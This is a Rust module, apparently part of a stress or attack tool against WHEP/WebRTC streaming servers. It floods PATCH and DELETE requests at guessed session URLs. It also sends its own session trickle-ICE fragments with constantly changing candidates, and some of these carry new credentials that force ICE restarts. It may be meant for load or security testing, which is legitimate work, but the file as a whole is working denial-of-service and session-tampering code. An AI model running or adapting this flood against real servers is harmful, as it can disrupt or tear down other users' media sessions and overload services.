//! PATCH and DELETE of session resources: of ones that are not there, and fragment after fragment to one's own.

use media_core::internals::ice::random_credentials;
use reqwest::Url;

use super::peer::{Role, offer};
use super::requests::{Clients, Requests};
use super::{AttackError, Target};

pub(super) fn start(target: &Target) -> Result<Requests, AttackError> {
    let (_, server) = target.http()?;
    let watched = Url::parse(&target.watched()?).map_err(|_| AttackError::Needs("a usable --whep"))?;
    let mut clients = Clients::new(server.ip())?;
    let (token, local) = (target.token.clone(), random_credentials());
    let (sdp, _) = offer(&target.identity, &local, Role::Viewer)?;
    Requests::start("resources", target.requests, move |mut turns, tally| async move {
        let authorised = |request: reqwest::RequestBuilder| match &token {
            Some(token) => request.bearer_auth(token),
            None => request,
        };
        let length = sdp.len();
        let post = clients.next().post(watched.clone()).header("content-type", "application/sdp").body(sdp);
        // An own session, if the server gives one: fragments to it are read, and change what it knows.
        let own = tally.request(authorised(post), length).await.and_then(|location| watched.join(&location).ok());
        let mut number = 0_u32;
        while let Some(due) = turns.next().await {
            for _ in 0..due {
                number += 1;
                let guessed = || guess(own.as_ref().unwrap_or(&watched), number);
                let url = own.clone().filter(|_| number.is_multiple_of(2)).unwrap_or_else(guessed);
                let fragment = fragment(&local.ufrag, &local.pwd, number);
                let (length, client) = (fragment.len(), clients.next());
                let request = match number % 4 {
                    3 => client.delete(guessed()),
                    1 => client.patch(guessed()).body(fragment),
                    _ => client.patch(url).body(fragment),
                };
                let request = request.header("content-type", "application/trickle-ice-sdpfrag").header("if-match", "*");
                clients.spawn(&tally, authorised(request), length);
            }
        }
        if let Some(own) = own {
            tally.request(authorised(clients.next().delete(own)), 0).await;
        }
    })
}

/// A session's URL that is not there: the last segment is another.
fn guess(like: &Url, number: u32) -> Url {
    let mut url = like.clone();
    let name = format!("{:032x}", u128::from(number).wrapping_mul(0x9e37_79b9_7f4a_7c15_f39c_c060_5ced_c835));
    if let Ok(mut segments) = url.path_segments_mut() {
        segments.pop().push(&name);
    }
    url
}

/// Candidates that change all the time (RFC 8840 §9); every other fragment asks for a restart.
fn fragment(ufrag: &str, pwd: &str, number: u32) -> String {
    let (ufrag, pwd) = match number % 3 {
        0 => (format!("{number:08x}"), format!("{number:032x}")),
        _ => (ufrag.to_owned(), pwd.to_owned()),
    };
    let port = 1024 + number % 60_000;
    format!(
        "a=ice-ufrag:{ufrag}\r\na=ice-pwd:{pwd}\r\nm=audio 9 RTP/AVP 0\r\na=mid:0\r\n\
         a=candidate:1 1 udp 2130706431 192.0.2.{} {port} typ host\r\n",
        number % 250 + 1
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn guesses_are_neighbours_of_a_session() {
        let own = Url::parse("http://h:1/whep/s/0123").unwrap();
        let (first, second) = (guess(&own, 1), guess(&own, 2));
        assert!(first != second && first.path().starts_with("/whep/s/") && first.path().len() == 8 + 32, "{first}");
    }
}
